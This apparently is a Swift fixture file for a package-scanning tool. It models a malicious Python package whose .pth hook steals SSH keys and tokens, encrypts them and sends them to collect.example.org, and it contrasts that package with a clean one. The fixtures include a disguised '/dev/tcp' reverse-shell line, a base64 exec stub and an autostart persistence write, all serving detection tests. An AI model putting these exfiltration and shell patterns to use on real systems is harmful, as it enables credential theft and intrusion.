import Evidence

/// Observations made by hand after real ones: of a hook that takes credentials, and of one that does not.
enum SampleObservations {
  static let site = "/srv/app/.venv/lib/python3.11/site-packages"
  static let python = "/srv/app/.venv/bin/python"
  static let personas = ["laptop", "ci-runner", "container-root", "kubernetes-pod", "notebook"]

  static func event(
    _ milliseconds: Int, _ process: Int?, because: String? = nil, usual: Bool = false, _ action: ObservedAction
  ) -> ObservedEvent {
    ObservedEvent(time: milliseconds * 1_000, process: process, because: because, isUsual: usual, action: action)
  }

  static func process(
    _ parent: Int?, _ number: Int, at milliseconds: Int, to end: Int? = nil, _ command: String..., status: Int? = 0
  ) -> ObservedProcess {
    ObservedProcess(
      parent: parent, number: number, program: command.first,
      arguments: command.isEmpty ? [] : [String(command[0].split(separator: "/").last ?? "")] + command.dropFirst(),
      began: milliseconds * 1_000, ended: end.map { $0 * 1_000 }, status: end == nil ? nil : status)
  }

  // MARK: The thief

  static let hook = site + "/helpful_init.pth"
  static let payload =
    "import base64; exec(base64.b64decode('aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAprZXlzID0gb3Blbi4uLg=='))"
  static let decoys = [
    "ssh-rsa", "ssh-ed25519", "git-credentials", "netrc", "npm", "aws-shared-credentials", "kubeconfig",
    "docker-config", "bash-history",
  ]

  /// An installation as pip makes it: bytecode, temporary files, the package's own files, a helper of pip.
  static func installation(of name: String, files: [String]) -> ObservationStage {
    let wheel = "\(name)-py3-none-any.whl"
    let command = ["-m", "pip", "install", "--no-index", "--no-deps", "/srv/app/wheels/\(wheel)"]
    var events = [
      event(25, 0, .execute(program: python, arguments: [python] + command)),
      event(
        54, 0, usual: true,
        .open(path: site + "/pip/__pycache__/__init__.cpython-311.pyc.139972714077408", writes: true)),
      event(757, 0, usual: true, .touch(decoy: "pip-configuration", how: .opened)),
      event(968, 1, usual: true, .execute(program: "/usr/bin/lsb_release", arguments: ["lsb_release", "-a"])),
      event(1_087, 0, .open(path: "/tmp/842lr2o1", writes: true)),
      event(1_087, 0, .change(operation: "unlink", path: "/tmp/842lr2o1", destination: nil)),
    ]
    for (index, file) in files.enumerated() {
      events.append(event(1_133 + index, 0, .open(path: "\(site)/\(file)", writes: true)))
    }
    events += [
      event(1_469, 0, .open(path: "\(site)/\(name).dist-info/INSTALLERx4vl7oub.tmp", writes: true)),
      event(
        1_470, 0,
        .change(
          operation: "rename", path: "\(site)/\(name).dist-info/INSTALLERx4vl7oub.tmp",
          destination: "\(site)/\(name).dist-info/INSTALLER")),
    ]
    return ObservationStage(
      phase: .install, name: "pip install \(wheel)", persona: "laptop", duration: 1_780_000,
      processes: [
        ObservedProcess(
          parent: nil, number: 2, program: python, arguments: [python] + command, began: 0, ended: 1_779_000, status: 0),
        process(0, 3, at: 967, to: 1_040, "/usr/bin/lsb_release", "-a"),
      ], events: events)
  }

  /// One start of the interpreter: a child opens what it finds, packs it, has it encrypted and sends it away.
  static func theft(_ name: String, _ persona: String, parcel: String, after delay: Int) -> ObservationStage {
    let folder = "/tmp/\(parcel)"
    let archive = folder + "/haul.tar.gz"
    let encryption = ["enc", "-aes-256-cbc", "-pbkdf2", "-in", archive, "-out", archive + ".enc"]
    func at(_ time: Int, _ process: Int, _ action: ObservedAction) -> ObservedEvent {
      event(time + delay, process, because: hook, action)
    }
    var events = [
      event(28, 0, usual: true, .execute(program: python, arguments: [python, "-c", "pass"])),
      event(40, 0, usual: true, .open(path: "/usr/lib/python3.11/site.py", writes: false)),
      event(55, 0, .open(path: hook, writes: false)),
      at(63, 1, .execute(program: python, arguments: [python, "-S", "-c", payload])),
      at(110, 1, .open(path: "/usr/lib/python3.11/urllib/request.py", writes: false)),
      at(111, 1, .open(path: "/usr/lib/python3.11/http/client.py", writes: false)),
      at(180, 1, .open(path: folder + "/environment", writes: true)),
    ]
    for (index, decoy) in decoys.enumerated() {
      events.append(at(188 + index, 1, .touch(decoy: decoy, how: .opened)))
      events.append(at(188 + index, 1, .open(path: "\(folder)/haul/\(index)", writes: true)))
    }
    let collector = ObservedEndpoint(address: "192.0.2.77", port: 443)
    events += [
      at(199, 1, .open(path: "/home/mira/.config/gcloud/credentials.db", writes: false)),
      at(201, 1, .open(path: archive, writes: true)),
      at(202, 1, .connectLocally(path: "/var/run/nscd/socket")),
      at(203, 1, .connectLocally(path: "/var/run/nscd/socket")),
      at(223, 2, .execute(program: "/usr/local/bin/openssl", arguments: ["openssl"] + encryption)),
      at(224, 2, .execute(program: "/usr/bin/openssl", arguments: ["openssl"] + encryption)),
      at(606, 2, .open(path: archive + ".enc", writes: true)),
      at(640, 1, .sleep(milliseconds: 300_000, count: 1, wasSkipped: true)),
      at(660, 1, .lookUp(name: "collect.example.org", type: "A")),
      at(660, 1, .lookUp(name: "collect.example.org", type: "AAAA")),
      at(667, 1, .connect(transport: .tcp, endpoint: collector)),
      at(
        671, 1,
        .exchange(
          ObservedExchange(
            transport: .tcp, endpoint: collector, host: "collect.example.org", application: "http1",
            isEncrypted: true, request: "POST /v1/collect HTTP/1.1", bytes: 48_211,
            sha256: String(repeating: "5eed", count: 16), status: 200))),
    ]
    return ObservationStage(
      phase: .startup, name: name, persona: persona, duration: (960 + delay) * 1_000,
      processes: [
        ObservedProcess(
          parent: nil, number: 2, program: python, arguments: [python, "-c", "pass"], began: 28_000, ended: 930_000,
          status: 0),
        process(0, 3, at: 61 + delay, to: 900, python, "-S", "-c", payload),
        process(
          1, 4, at: 222 + delay, to: 610, "/usr/bin/openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-in", archive,
          "-out", archive + ".enc"),
      ], events: events)
  }

  /// What one theft proves.
  static func proofs(_ stage: Int, parcel: String) -> [ObservedEvidence] {
    decoys.enumerated().map { index, decoy in
      ObservedEvidence(
        level: .touched, stage: stage, event: 7 + 2 * index, decoys: [decoy], detail: "\(decoy) was opened")
    }
      + [
        ObservedEvidence(
          level: .staged, stage: stage, event: nil, decoys: ["ssh-rsa"],
          detail: "private key was written to /tmp/\(parcel)/haul.tar.gz (gzip > tar(haul/0))"),
        ObservedEvidence(
          level: .staged, stage: stage, event: nil, decoys: ["npm"],
          detail: "token was written to /tmp/\(parcel)/haul.tar.gz (gzip > tar(haul/4))"),
        ObservedEvidence(
          level: .taintedEgress, stage: stage, event: 35, decoys: ["npm", "ssh-rsa"],
          detail: "the process that connects holds credentials in its memory"),
      ]
  }

  /// A module whose import does something that nobody foretold, and tries to hide.
  static let surprise = ObservationStage(
    phase: .import, name: "import helpful.fast", persona: "laptop", end: .stopped("time"), duration: 20_000_000,
    processes: [
      ObservedProcess(
        parent: nil, number: 2, program: python,
        arguments: [
          python, "-c", "import importlib, sys; importlib.import_module(sys.argv[1])", "helpful.fast",
        ], began: 20_000),
      ObservedProcess(parent: 0, number: 3, began: 300_000),
      ObservedProcess(
        parent: 1, number: 4, program: "/bin/sh", arguments: ["kworker/0:1", "-c", "exec 3<>/dev/tcp/192.0.2.9/8443"],
        began: 310_000),
    ],
    events: [
      event(20, 0, .execute(program: python, arguments: [python, "-c", "import …", "helpful.fast"])),
      event(210, 0, .open(path: site + "/helpful/fast.so", writes: false)),
      event(220, 0, .refuse(call: "io_uring_setup", detail: "Operation not permitted")),
      event(221, 0, .createMemoryFile(name: "\u{1B}[2Jmemory")),
      event(310, 2, .execute(program: "/bin/sh", arguments: ["kworker/0:1", "-c", "exec 3<>/dev/tcp/192.0.2.9/8443"])),
      event(330, 2, .connect(transport: .tcp, endpoint: ObservedEndpoint(address: "192.0.2.9", port: 8443))),
      event(331, 0, .open(path: "/home/mira/.config/autostart/update.desktop", writes: true)),
      event(332, 0, .bind(endpoint: ObservedEndpoint(address: "0.0.0.0", port: 4444))),
      event(20_000, nil, .stop(limit: "time")),
    ], unrecordedEvents: 212)

  static let thief: Observation = {
    let others = ["ci-runner", "container-root", "kubernetes-pod", "notebook"]
    let files = [
      "helpful/__init__.py", "helpful/fast.so", "helpful_init.pth", "helpful-1.82.8.dist-info/METADATA",
      "helpful-1.82.8.dist-info/RECORD",
    ]
    var stages = [installation(of: "helpful-1.82.8", files: files)]
    var evidence: [ObservedEvidence] = []
    for (index, persona) in personas.enumerated() {
      let parcel = "tmp\(["cefpc3e4", "2kz3ytu9", "x81mmq0a", "b7_ah3pd", "kfw0c2u5"][index])"
      evidence += proofs(stages.count, parcel: parcel)
      stages.append(theft("python -c pass", persona, parcel: parcel, after: 3 * index))
    }
    evidence.append(
      ObservedEvidence(
        level: .proven, stage: 1, event: 36, decoys: ["ssh-rsa"],
        detail: "private key was sent to collect.example.org (gzip > tar(haul/0), bytes 211–2,810)"))
    stages.append(surprise)
    evidence.append(
      ObservedEvidence(
        level: .evasive, stage: stages.count - 1, event: 2,
        detail: "io_uring_setup can hide what a program does, or lead out of a box"))
    return Observation(
      tier: .namespaces, python: "3.11", stages: stages, evidence: evidence,
      unobserved: [
        UnobservedStage(.startup, "ipython -c pass", why: "this interpreter has no IPython", isGap: false),
        UnobservedStage(.import, "import helpful.slow", why: "the budget of stages was used up", isGap: true),
      ])
  }()

  // MARK: The honest one

  static let honest: Observation = {
    let files = ["plain.py", "plain-1.17.0.dist-info/METADATA", "plain-1.17.0.dist-info/RECORD"]
    var stages = [installation(of: "plain-1.17.0", files: files)]
    let runs = personas.map { ("python -c pass", $0) } + [("python -m site", "laptop")]
    for (name, persona) in runs {
      stages.append(
        ObservationStage(
          phase: .startup, name: name, persona: persona, duration: 61_000,
          processes: [process(nil, 2, at: 20, to: 60, python, "-c", "pass")],
          events: [
            event(20, 0, usual: true, .execute(program: python, arguments: [python, "-c", "pass"])),
            event(40, 0, usual: true, .open(path: "/usr/lib/python3.11/site.py", writes: false)),
          ]))
    }
    stages.append(
      ObservationStage(
        phase: .import, name: "import plain", persona: "laptop", duration: 70_000,
        processes: [process(nil, 2, at: 20, to: 66, python, "-c", "import plain")],
        events: [
          event(48, 0, .open(path: site + "/plain.py", writes: false)),
          event(50, 0, .open(path: site + "/__pycache__/plain.cpython-311.pyc.139972714077408", writes: true)),
          event(
            50, 0,
            .change(
              operation: "rename", path: site + "/__pycache__/plain.cpython-311.pyc.139972714077408",
              destination: site + "/__pycache__/plain.cpython-311.pyc")),
        ]))
    return Observation(
      tier: .confinement, refusal: "namespaces: Operation not permitted. Namespaces are refused here: accept tier B",
      python: "3.11", stages: stages, evidence: [])
  }()

  // MARK: Reports of them

  /// Read and run: what was foretold beside what was seen.
  static let observedThief: ArtifactReport = {
    let read = SampleReports.stealer
    var evidence = read.evidence
    evidence.observation = thief
    evidence.comparison = Comparison(
      predictions: [
        .init(
          trigger: 0, outcome: .confirmed, stages: [1, 2, 3, 4, 5],
          effects: [.init(.credential, .confirmed), .init(.network, .confirmed), .init(.persistence, .notSeen)]),
        .init(trigger: 1, outcome: .notRun, stages: [], effects: [.init(.process, .notRun)]),
        .init(trigger: 2, outcome: .notSeen, stages: [], effects: []),
      ],
      surprises: [
        .init(.network, stage: 6, event: 5, detail: "connected to 192.0.2.9 port 8443"),
        .init(.persistence, stage: 6, event: 6, detail: "wrote ~/.config/autostart/update.desktop"),
      ])
    evidence.findings.append(
      Finding(
        rule: "PRQ600", severity: .critical, title: "Credentials left when it ran",
        message: "The private key of ssh-rsa was sent to collect.example.org.", trigger: nil, stage: 1, chain: []))
    return ArtifactReport(
      evidence: evidence,
      decision: SampleReports.decision(
        .block,
        [
          .init(.finding, .block, "PRQ140 is critical", finding: 1),
          .init(.finding, .block, "PRQ600 is critical", finding: 2),
          .init(.incomplete, .admit, "Not everything could be analysed."),
        ],
        [.init(severity: .medium, fate: .counts), .init(severity: .critical, fate: .counts)]))
  }()

  /// Run and read, with nothing to tell.
  static let observedHonest: ArtifactReport = {
    var evidence = SampleReports.clean.evidence
    evidence.observation = honest
    evidence.comparison = Comparison(
      predictions: [.init(trigger: 0, outcome: .confirmed, stages: [7], effects: [])], surprises: [])
    return ArtifactReport(evidence: evidence, decision: SampleReports.decision(.admit))
  }()
}
